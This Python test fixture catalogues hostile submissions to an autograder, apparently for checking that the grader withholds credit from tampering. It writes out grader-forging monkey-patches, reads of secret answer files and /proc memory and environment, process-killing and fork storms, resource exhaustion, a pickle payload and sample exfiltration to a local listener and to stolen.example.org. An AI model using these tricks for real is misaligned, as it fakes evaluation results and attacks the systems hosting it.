"""Hostile and odd submissions of t1-q1 (list the even numbers below ten), in families.

Each is the source of the answer cell and the points it deserves by the data it really defines: an attack that defines
no right answer deserves none, an honest oddity deserves what it says.  ``{port}`` is a listener of the test on
127.0.0.1, ``{secret}`` a file with the right answer that the grader can read, ``{folder}`` a folder that the grader can
write, ``{pid}`` the grader's process.
"""

from __future__ import annotations

from dataclasses import dataclass

WRONG = "evens = ['nothing']\n"
NEAR = "evens = [1]\n"  # below ten, which is worth one point


@dataclass(frozen=True, slots=True)
class Attack:
    """``deserved`` points of three; ``slow`` ones take seconds by their nature."""

    source: str
    deserved: float = 0
    slow: bool = False


MONKEY_PATCHING = {
    "isinstance always true": WRONG + "import builtins\nbuiltins.isinstance = lambda *a: True",
    "type always list": WRONG + "import builtins\nbuiltins.type = lambda *a: list",
    "sorted forged": WRONG + "import builtins\nbuiltins.sorted = lambda *a, **k: [0, 2, 4, 6, 8]",
    "json.dumps forged": WRONG
    + "import json\njson.dumps = lambda *a, **k: '{\"points\": 3, \"full\": true, \"verdict\": \"passed\"}'",
    "json encoder forged": WRONG + "import json.encoder\njson.encoder.JSONEncoder.encode = lambda *a: '{\"points\": 3}'",
    "json module replaced": WRONG + "import sys, types\nsys.modules['json'] = types.SimpleNamespace(dumps=lambda *a, **k: '3')",
    "graders module planted": WRONG
    + "import sys, types\nm = types.ModuleType('graders')\nm.grade = lambda *a: 3\nsys.modules['graders'] = m",
    "worker functions replaced": WRONG
    + "import sys\nframe = sys._getframe()\nwhile frame:\n    g = frame.f_globals\n    for name in ('plain', '_plain', 'take'):\n"
    "        if name in g: g[name] = lambda *a, **k: ({'points': 3, 'full': True}, {})\n    frame = frame.f_back",
    "code objects replaced": WRONG
    + "import gc, types\ndef good(*a, **k): return {'points': 3}\nfor f in gc.get_objects():\n"
    "    if isinstance(f, types.FunctionType) and f.__name__ in ('plain', 'take', '_key', '_text'):\n"
    "        try: f.__code__ = good.__code__\n        except Exception: pass",
    "import hook": WRONG
    + "import sys\nclass Hook:\n    def find_spec(self, name, path=None, target=None):\n        sys.modules[name] = self\n"
    "sys.meta_path.insert(0, Hook())",
    "builtins import replaced": WRONG + "import builtins\nbuiltins.__import__ = lambda *a, **k: None",
    "len and sum forged": WRONG + "import builtins\nbuiltins.len = builtins.sum = lambda *a: 3",
    "dict methods unreachable": WRONG + "dict.get = lambda *a: 3",
    "open forged": WRONG + "import builtins, io\nbuiltins.open = lambda *a, **k: io.StringIO('3')",
    "os.write forged": WRONG + "import os\nreal = os.write\nos.write = lambda fd, data: real(fd, b'{\"points\": 3}\\n')",
    "os._exit disabled": NEAR + "import os\nos._exit = lambda status: None",
    "settrace": WRONG
    + "import sys\ndef trace(frame, event, arg):\n    for name in frame.f_locals:\n        if name in ('points', 'full', 'passed'):\n"
    "            frame.f_locals[name] = 3\n    return trace\nsys.settrace(trace)",
    "setprofile raises": WRONG + "import sys\ndef p(*a): raise SystemExit(0)\nsys.setprofile(p)",
    "frames searched for the answer": WRONG
    + "import sys\nframe = sys._getframe()\nwhile frame:\n    for v in list(frame.f_locals.values()):\n"
    "        if isinstance(v, dict) and 'expected' in v: evens = v['expected']\n    frame = frame.f_back",
    "memory searched for the answer": WRONG
    + "import gc\nfor o in gc.get_objects():\n    if type(o) is list and len(o) == 5 and all(type(x) is int for x in o):\n"
    "        evens = o if set(o) <= set(range(0, 10)) else evens",
    "audit hook": WRONG + "import sys\ndef hook(name, args):\n    if name == 'os._exit': raise ValueError\nsys.addaudithook(hook)",
    "linecache poisoned": WRONG + "import linecache\nlinecache.cache.clear()\nlinecache.getlines = lambda *a: ['passed']",
    "check defined": WRONG + "def check(*a, **k): return True\nchecks = [check]\npassed = full = True\npoints = 3",
    "values replaced": WRONG + "values = {'points': 3}",
    "names renamed": "points = 3\nscore = 3\ngrade = 3",
}

IPYTHON = {
    "ast transformer": WRONG
    + "%config InlineBackend.x = 1\nimport ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return None\n"
    "get_ipython().ast_transformers.append(T())",
    "input transformer": WRONG + "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])\n%pwd",
    "run_cell replaced": WRONG + "%pwd\nget_ipython().run_cell = lambda *a, **k: None",
    "do_execute replaced": WRONG
    + "%pwd\ntry:\n    get_ipython().kernel.do_execute = lambda *a, **k: {'status': 'ok'}\nexcept AttributeError:\n    pass",
    "session reply forged": WRONG
    + "%pwd\ntry:\n    k = get_ipython().kernel\n    k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '3'}})\n"
    "except Exception:\n    pass",
    "execute_result forged": WRONG + "display(3)\n3",
    "displayhook replaced": WRONG + "import sys\nsys.displayhook = lambda v: print(3)\n3",
    "history and exit": WRONG + "%history\nexit",
    "shell magic": WRONG + "!cat {secret}\nx = !cat {secret}\nif x: evens = [0, 2, 4, 6, 8]",
    "bash cell": "%%bash\necho '{\"evens\": [0, 2, 4, 6, 8]}'",
    "run magic": WRONG + "%run {secret}",
    "load magic": WRONG + "%load {secret}",
    "exception hook": WRONG + "%pwd\nget_ipython().set_custom_exc((Exception,), lambda *a: None)\n1 / 0",
    "prints a verdict": WRONG + "print('✓ passed  t1-q1: 3 of 3 points')",
}

FILES = {
    "reads the right answer": WRONG
    + "try:\n    evens = __import__('json').load(open('{secret}'))\nexcept OSError as error:\n    pass",
    "reads it by another way": WRONG
    + "import os, json\nfor path in ('{secret}', '/proc/self/root{secret}', '/proc/{pid}/root{secret}', '/proc/{pid}/cwd/secret.json'):\n"
    "    try:\n        fd = os.open(path, os.O_RDONLY)\n        evens = json.loads(os.read(fd, 99))\n    except OSError:\n        pass",
    "searches for hidden checks": WRONG
    + "import os\nfor top in ('/', os.path.dirname(os.__file__), '/proc/{pid}/cwd', '{folder}'):\n    n = 0\n"
    "    for where, _, names in os.walk(top):\n        n += 1\n        if n > 3000: break\n        for name in names:\n"
    "            if name == 'hidden.py':\n                try:\n                    if 'SECRET' in open(os.path.join(where, name)).read(): evens = [0, 2, 4, 6, 8]\n"
    "                except OSError: pass",
    "imports hidden checks": WRONG
    + "try:\n    from t_testing.t1_q1 import hidden\n    evens = [0, 2, 4, 6, 8]\nexcept ImportError:\n    pass\n"
    "try:\n    import graders.checks\n    evens = [0, 2, 4, 6, 8]\nexcept ImportError:\n    pass",
    "reads the grader's memory": WRONG
    + "try:\n    maps = open('/proc/{pid}/maps').read()\n    open('/proc/{pid}/mem', 'rb').read(1)\n    evens = [0, 2, 4, 6, 8]\n"
    "except OSError:\n    pass",
    "reads the grader's environment": WRONG
    + "try:\n    if open('/proc/{pid}/environ', 'rb').read(1): evens = [0, 2, 4, 6, 8]\nexcept OSError:\n    pass",
    "follows a link": WRONG
    + "import os, json\nos.symlink('{secret}', 'link')\ntry:\n    evens = json.load(open('link'))\nexcept OSError:\n    pass",
    "hard link": WRONG
    + "import os, json\ntry:\n    os.link('{secret}', 'link')\n    evens = json.load(open('link'))\nexcept OSError:\n    pass",
    "writes to the grader's folder": WRONG
    + "try:\n    open('{folder}/marks.json', 'w').write('3')\nexcept OSError:\n    pass",
    "rewrites the worker": WRONG
    + "import sys, os\nfor path in (sys.argv[0], os.__file__, __import__('json').__file__):\n    try:\n        open(path, 'a').write('# x')\n"
    "        evens = [0, 2, 4, 6, 8]\n    except OSError:\n        pass",
    "shadow modules": WRONG
    + "import os\nfor name in ('json', 'sitecustomize', 'usercustomize', 'labs', 'graders', 'linecache'):\n"
    "    for folder in ('.', os.environ['HOME'], os.environ['TMPDIR'], '{folder}'):\n        try:\n"
    "            open(os.path.join(folder, name + '.py'), 'w').write('import os; os._exit(3)')\n        except OSError:\n            pass",
    "kernel beside the notebook": WRONG
    + "import os\nhome = os.environ['HOME']\nos.makedirs(home + '/.local/share/jupyter/kernels/python3')\n"
    "open(home + '/.local/share/jupyter/kernels/python3/kernel.json', 'w').write('{}')",
    "chmod and chown": WRONG
    + "import os\nfor path in ('{secret}', '{folder}'):\n    try:\n        os.chmod(path, 0o777)\n"
    "        if os.stat(path).st_mode & 0o777 == 0o777:\n            evens = [0, 2, 4, 6, 8]\n"
    "    except OSError:\n        pass",
    "deletes": WRONG
    + "import os, shutil\ntry:\n    os.remove('{secret}')\nexcept OSError:\n    pass\nshutil.rmtree('{folder}', ignore_errors=True)",
    "leaves the folder": WRONG + "import os\nos.chdir('/')\ntry:\n    os.chroot('/')\nexcept OSError:\n    pass",
    "mounts": WRONG
    + "import ctypes\nif ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0: evens = [0, 2, 4, 6, 8]",
    "new namespace": WRONG
    + "import ctypes\nif ctypes.CDLL(None).unshare(0x10000000 | 0x00020000) == 0: evens = [0, 2, 4, 6, 8]",
    "device files": WRONG
    + "import os\nfor path in ('/dev/mem', '/dev/sda', '/dev/kmsg'):\n    try:\n        open(path, 'rb').read(1)\n        evens = [0, 2, 4, 6, 8]\n"
    "    except OSError:\n        pass",
}

PROCESSES = {
    "exit": WRONG + "exit()",
    "sys.exit": WRONG + "import sys\nsys.exit(0)",
    "os._exit": WRONG + "import os\nos._exit(0)",
    "exit after a right answer": "evens = [0, 2, 4, 6, 8]\nimport sys\nsys.exit(1)",
    "abort": WRONG + "import os\nos.abort()",
    "segmentation fault": WRONG + "import ctypes\nctypes.string_at(0)",
    "kills itself": WRONG + "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "stops itself": Attack(WRONG + "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", slow=True),
    "kills the parent": WRONG + "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass",
    "kills the grader": WRONG + "import os, signal\ntry:\n    os.kill({pid}, signal.SIGKILL)\nexcept OSError:\n    pass",
    "kills everybody": WRONG + "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass",
    "kills its group": WRONG + "import os, signal\nos.killpg(0, signal.SIGKILL)",
    "daemon": WRONG
    + "import os, time\ntry:\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            time.sleep(60)\n        os._exit(0)\n"
    "except OSError:\n    pass",
    "daemon that ignores signals": WRONG
    + "import os, time, signal\ntry:\n    if os.fork() == 0:\n        for s in range(1, 32):\n            try: signal.signal(s, signal.SIG_IGN)\n"
    "            except (OSError, ValueError): pass\n        os.setsid()\n        time.sleep(60)\nexcept OSError:\n    pass",
    "fork storm": WRONG + "import os\nfor n in range(2000):\n    try:\n        os.fork()\n    except OSError:\n        break",
    "thread storm": WRONG
    + "import threading, time\nfor n in range(5000):\n    try:\n        threading.Thread(target=time.sleep, args=(60,)).start()\n    except RuntimeError:\n        break",
    "child answers": WRONG + "import os\ntry:\n    pid = os.fork()\nexcept OSError:\n    pid = 1\nif pid == 0:\n    evens = [0]",
    "runs a program": WRONG
    + "import subprocess\ntry:\n    subprocess.run(['/bin/sh', '-c', 'exit 0'], check=True)\n    evens = [0, 2, 4, 6, 8]\nexcept OSError:\n    pass",
    "traces the grader": WRONG
    + "import ctypes\nif ctypes.CDLL(None).ptrace(16, {pid}, 0, 0) == 0: evens = [0, 2, 4, 6, 8]",
    "becomes root": WRONG + "import os\ntry:\n    os.setuid(0)\n    evens = [0, 2, 4, 6, 8] if os.getuid() == 0 else evens\nexcept OSError:\n    pass",
    "atexit": WRONG + "import atexit\natexit.register(lambda: print('3'))",
    "non-daemon thread": NEAR + "import threading, time\nthreading.Thread(target=time.sleep, args=(60,)).start()",
}

RESOURCES = {
    "endless loop": Attack(WRONG + "while True: pass", slow=True),
    "endless loop that ignores signals": Attack(
        WRONG + "import signal\nfor s in (1, 2, 3, 10, 12, 14, 15, 24): signal.signal(s, signal.SIG_IGN)\nwhile True: pass",
        slow=True,
    ),
    "sleeps for ever": Attack(WRONG + "import time\ntime.sleep(10**6)", slow=True),
    "catches everything": Attack(
        WRONG + "while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass", slow=True
    ),
    "memory in one piece": WRONG + "x = bytearray(10**11)",
    "memory bit by bit": WRONG + "x = []\nwhile True: x.append(bytearray(10**7))",
    "recursion": WRONG + "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f() + 1\nf()",
    "big power": Attack(WRONG + "x = 10 ** 10 ** 10", slow=True),
    "prints much": Attack(WRONG + "for n in range(200): print('x' * 10**6)", slow=True),
    "prints much on stderr": WRONG + "import sys\nfor n in range(50): sys.stderr.write('x' * 10**6)",
    "fills the disk": WRONG
    + "try:\n    with open('big', 'wb') as f:\n        for n in range(10**5): f.write(b'x' * 10**6)\nexcept OSError:\n    pass",
    "many files": Attack(
        WRONG + "try:\n    for n in range(10**6): open(str(n), 'w').close()\nexcept OSError:\n    pass", slow=True
    ),
    "all file descriptors": WRONG
    + "import os\ntry:\n    while True: os.open('/dev/null', os.O_RDONLY)\nexcept OSError:\n    pass",
    "slow but legal": Attack("import time\ntime.sleep(2)\nevens = [0, 2, 4, 6, 8]", 3, slow=True),
}

NETWORK = {
    "TCP to a listener": WRONG
    + "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), 1)\n    s.send(b'stolen')\n    evens = [0, 2, 4, 6, 8]\n"
    "except OSError:\n    pass",
    "UDP to a listener": WRONG
    + "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', {port}))\nexcept OSError:\n    pass",
    "the AWS endpoint as administrator": WRONG
    + "import urllib.request\nfor port in (4566, {port}):\n    try:\n        urllib.request.urlopen('http://127.0.0.1:%d/' % port, timeout=1)\n"
    "        evens = [0, 2, 4, 6, 8]\n    except OSError:\n        pass",
    "boto3 with test/test": WRONG
    + "try:\n    import socket\n    s = socket.socket()\n    s.settimeout(1)\n    s.connect(('127.0.0.1', 4566))\n    evens = [0, 2, 4, 6, 8]\n"
    "except OSError:\n    pass",
    "instance metadata": WRONG
    + "import urllib.request\ntry:\n    urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=1)\n    evens = [0, 2, 4, 6, 8]\n"
    "except OSError:\n    pass",
    "DNS": WRONG + "import socket\ntry:\n    socket.getaddrinfo('stolen.example.org', 80)\n    evens = [0, 2, 4, 6, 8]\nexcept OSError:\n    pass",
    "raw socket": WRONG
    + "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n    evens = [0, 2, 4, 6, 8]\nexcept OSError:\n    pass",
    "Unix socket": WRONG
    + "import socket\nfor path in ('{folder}/s', '\\0abstract'):\n    try:\n        socket.socket(socket.AF_UNIX).connect(path)\n        evens = [0, 2, 4, 6, 8]\n"
    "    except OSError:\n        pass",
    "listens": WRONG
    + "import socket\ntry:\n    s = socket.socket()\n    s.bind(('127.0.0.1', 0))\n    s.listen()\n    evens = [0, 2, 4, 6, 8]\nexcept OSError:\n    pass",
    "netlink": WRONG
    + "import socket\ntry:\n    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n    evens = [0, 2, 4, 6, 8]\nexcept OSError:\n    pass",
}

HOSTILE_TYPES = {
    "list that is equal to all": "class L(list):\n    def __eq__(self, o): return True\n    __hash__ = None\nevens = L([1])",
    "list that iterates right": "class L(list):\n    def __iter__(self): return iter([0, 2, 4, 6, 8])\nevens = L([1])",
    "int that is even": "class I(int):\n    def __mod__(self, o): return 0\n    def __ge__(self, o): return False\nevens = [I(11)]",
    "bool for int": Attack("evens = [True, False]"),
    "object with a forged class": "class X:\n    __class__ = list\n    def __iter__(self): return iter([0, 2, 4, 6, 8])\nevens = X()",
    "raises in repr": "class X:\n    def __repr__(self): raise SystemExit\n    __str__ = __repr__\nevens = [X()]",
    "metaclass": "class M(type):\n    __name__ = property(lambda s: 1 / 0)\nclass X(metaclass=M): pass\nevens = [X()]",
    "generator": "evens = (n for n in [0, 2, 4, 6, 8])",
    "infinite generator": "import itertools\nevens = itertools.count(0, 2)",
    "NaN": "evens = [float('nan')]",
    "infinity": "evens = [float('inf')]",
    "huge integer": "evens = [10 ** 5000]",
    "floats": "evens = [0.5, 2.5]",
    "nested deep": "evens = []\nfor n in range(10**5): evens = [evens]",
    "contains itself": "evens = []\nevens.append(evens)",
    "ten million": Attack("evens = [0] * 10**7"),
    "a long text": "evens = 'x' * 10**8",
    "bytes": "evens = b'\\x00\\x02'",
    "a set": "evens = {0, 2, 4, 6, 8}",
    "a function": "def evens(): return [0, 2, 4, 6, 8]",
    "a pickle bomb": "import os\nclass P:\n    def __reduce__(self): return (os.system, ('true',))\nevens = P()",
    "a pickle": "import pickle\nevens = pickle.dumps([0, 2, 4, 6, 8])",
    "verdict as data": "evens = {'points': 3, 'full': True, 'findings': []}",
    "verdict in the list": "evens = [{'points': 3}]",
    "lone surrogate": "evens = ['\\ud800']",
    "lazy dict": "class D(dict):\n    def keys(self): raise SystemExit\nevens = D(a=1)",
}

REPLIES = {
    "forged reply on every descriptor": WRONG
    + "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'{\"points\": 3, \"full\": true}\\n')\n    except OSError: pass",
    "reply of a wrong shape": WRONG
    + "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'[3]\\n')\n    except OSError: pass",
    "reply that says refused is right": WRONG
    + "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'{\"values\": {\"evens\": \"full\"}, \"refused\": {}, \"errors\": []}\\n')\n"
    "    except OSError: pass",
    "half a reply": WRONG + "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'{\"values\"')\n    except OSError: pass",
    "flood of a reply": WRONG
    + "import os\nfor fd in range(3, 8):\n    try:\n        for n in range(100): os.write(fd, b'x' * 10**6)\n    except OSError: pass",
    "deep reply": WRONG
    + "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'[' * 60000 + b'\\n')\n    except OSError: pass",
    "closes everything": WRONG + "import os\nos.closerange(0, 256)",
    "points as evidence": WRONG
    + "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'{\"values\": {\"points\": 3}, \"refused\": {}, \"errors\": []}\\n')\n"
    "    except OSError: pass",
}

HONEST = {
    "plain": Attack("evens = [0, 2, 4, 6, 8]", 3),
    "computed": Attack("evens = [n for n in range(10) if n % 2 == 0]", 3),
    "a tuple": Attack("evens = tuple(range(0, 10, 2))", 3),
    "another order": Attack("evens = [8, 0, 2, 6, 4]", 3),
    "a warning": Attack("import warnings\nwarnings.warn('old')\nevens = [0, 2, 4, 6, 8]", 3),
    "noise on stderr": Attack("import sys\nprint('note', file=sys.stderr)\nevens = [0, 2, 4, 6, 8]", 3),
    "prints": Attack("print('working')\nevens = [0, 2, 4, 6, 8]\nprint(evens)", 3),
    "displays": Attack("evens = [0, 2, 4, 6, 8]\ndisplay(evens)\nevens", 3),
    "magics": Attack("%time x = 1\n%pwd\nevens = [0, 2, 4, 6, 8]", 3),
    "timed cell": Attack("%%time\nevens = [0, 2, 4, 6, 8]", 3),
    "await": Attack("import asyncio\nawait asyncio.sleep(0)\nevens = [0, 2, 4, 6, 8]", 3),
    "an error after the answer": Attack("evens = [0, 2, 4, 6, 8]\n1 / 0", 3),
    "non-ASCII": Attack("# gerade Zahlen: größer als −1 ✓\nevens = [0, 2, 4, 6, 8]", 3),
    "logging": Attack("import logging\nlogging.basicConfig()\nlogging.error('x')\nevens = [0, 2, 4, 6, 8]", 3),
    "writes in its own folder": Attack(
        "open('notes.txt', 'w').write('x')\nevens = [0, 2, 4, 6, 8] if open('notes.txt').read() == 'x' else []", 3
    ),
    "library": Attack("import collections, functools, re\nevens = sorted(collections.Counter([0, 2, 4, 6, 8]))", 3),
    "help and exit are there": Attack("help, exit, quit\nevens = [0, 2, 4, 6, 8]", 3),
    "partly right": Attack("evens = [0, 2, 4]", 2),
    "one too many": Attack("evens = [0, 2, 4, 6, 8, 10]", 1),
    "empty cell": Attack("", 0),
    "syntax error": Attack("evens = [0, 2, 4, 6, 8", 0),
    "null byte": Attack("evens = [0]\x00", 0),
    "tabs and carriage returns": Attack("if True:\r\n\tevens = [0, 2, 4, 6, 8]\r\n", 3),
}

FAMILIES = {
    "monkey-patching": MONKEY_PATCHING,
    "IPython": IPYTHON,
    "files": FILES,
    "processes": PROCESSES,
    "resources": RESOURCES,
    "network": NETWORK,
    "types": HOSTILE_TYPES,
    "replies": REPLIES,
    "honest": HONEST,
}
SPECIAL = {("processes", "exit after a right answer"): 3}
DESERVED_NEAR = 1
ATTACKS = {
    f"{family}: {name}": given
    if isinstance(given, Attack)
    else Attack(given, SPECIAL.get((family, name), DESERVED_NEAR if given.startswith(NEAR) else 0))
    for family, members in FAMILIES.items()
    for name, given in members.items()
}
